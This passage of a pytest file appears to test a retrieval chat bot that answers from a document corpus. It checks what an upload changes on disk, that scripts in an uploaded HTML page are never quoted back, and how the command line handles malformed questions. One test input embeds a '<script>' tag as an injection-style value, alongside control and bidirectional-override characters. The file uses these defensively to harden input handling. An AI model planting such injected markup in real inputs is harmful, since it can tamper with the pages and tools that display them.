        api.message(case.chat, user(case.sender), document=document, **case.extra)
        chat = case.chat["id"]
        if case.saved_as is not None:
            await asyncio.to_thread(
                api.wait_for,
                lambda a: any("Index updated" in m["text"] for m in a.sent(chat)),
                60,
            )
        await settle(bot)
        sent = api.sent()
        assert all(m["chat"]["id"] == chat for m in sent)
        assert len(api.calls_of("sendMessage")) == len(sent)
        assert len(api.calls_of("getFile")) == int(case.fetched)
        texts = [m["text"] for m in sent]
        after = listing(tmp_path)
        corpus = "data/corpus/"
        changed = {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}
        unexpected = {k for k in changed if not k.startswith("data/index/")}
        if case.saved_as is not None:
            assert len(texts) == 1, texts  # one reply, edited with the build summary
            assert texts[0].startswith(f"Saved {case.saved_as}"), texts
            assert "Index updated" in texts[0], texts
            assert unexpected == {corpus + case.saved_as}
            assert (tmp_path / corpus / case.saved_as).read_bytes() == case.content
        else:
            assert unexpected == set()
            rebuilt = {
                k for k in changed if k.startswith("data/index/") and "/state.sqlite" not in k
            }
            assert rebuilt == set()  # no rebuild either (the state store may count it)
            if case.reply is None:
                assert texts == []
            else:
                assert len(texts) == 1, texts
                assert says(texts[0], case.reply), texts[0]
                assert "nothing was stored" in texts[0].lower() or "already" in texts[0]
        if case.name is not None and Path(case.name).is_absolute():
            assert not Path(case.name).exists()
        assert_no_errors(caplog)
        await assert_still_answers(bot)
        if case.saved_as == "page.html":
            # The page's scripts are not part of its text: nothing quotes them.
            reply = await ask(bot, "What is the boiling point of mercury?")
            assert "alert" not in reply["text"] and "fetch(" not in reply["text"]
            reply = await ask(bot, "How often does the Strokkur geyser erupt?")
            assert "six to ten minutes" in reply["text"]


async def ask(bot: RunningBot, question: str) -> dict[str, Any]:
    before = len(bot.api.sent(HEALTH))
    bot.api.text(private(HEALTH), user(HEALTH), question)
    reply: dict[str, Any] = (await bot.replies(HEALTH, before + 1))[before]
    return reply


# -- the command line ----------------------------------------------------------------------------


def run_cli(
    args: list[str], env: dict[str, str], stdin: str | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bot.cli", *args],
        input=stdin,
        capture_output=True,
        text=True,
        env={**os.environ, "VERBATIM_MODEL": "hashing-fake", **env},
        timeout=120,
        check=False,
    )


@pytest.fixture
def cli_env(corpus: Path, tmp_path: Path) -> dict[str, str]:
    return {"VERBATIM_CORPUS_DIR": str(corpus), "VERBATIM_INDEX_DIR": str(tmp_path / "idx")}


@pytest.mark.parametrize(
    ("question", "message"),
    [
        pytest.param("", "question is empty", id="empty"),
        pytest.param(" \t \u00a0 ", "question is empty", id="whitespace-only"),
        pytest.param("y" * 10_000, "too long", id="10000-chars"),
        pytest.param("\x01\x02\x1b\x7f", "question is empty", id="control-chars-only"),
        pytest.param("\u200b\u200d\ufeff", "question is empty", id="zero-width-only"),
        pytest.param("🤔🔥", "no words", id="emoji-only"),
    ],
)
def test_cli_refuses_with_one_clear_line(
    cli_env: dict[str, str], question: str, message: str
) -> None:
    result = run_cli(["ask", question], cli_env)
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.strip() == result.stderr.strip().splitlines()[0]
    assert message in result.stderr and "Traceback" not in result.stderr


def test_cli_hostile_questions_from_stdin(cli_env: dict[str, str]) -> None:
    lines = [
        "When did\x07 Hekla\u200b erupt?",  # control and zero-width characters inside
        "<b>When</b> did <script>x()</script>Eyjafjallajökull erupt?",
        "\u202eWhen did Hekla erupt?\u202c",
        "🤔🤔",
        "z" * 10_000,
        "https://example.com/?q=<b>",
    ]
    result = run_cli(["ask", "--json", "-k", "1"], cli_env, stdin="\n".join(lines) + "\n")
    assert "Traceback" not in result.stderr
    out = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(out) == len(lines)
    assert [o["answered"] for o in out[:3]] == [True, True, True]
    assert "2000" in out[0]["passages"][0]["highlight"]
    assert "2010" in out[1]["passages"][0]["highlight"]
    assert "no words" in out[3]["error"] and "too long" in out[4]["error"]
    assert out[5]["answered"] is False
    assert result.returncode == 1  # some questions could not be asked
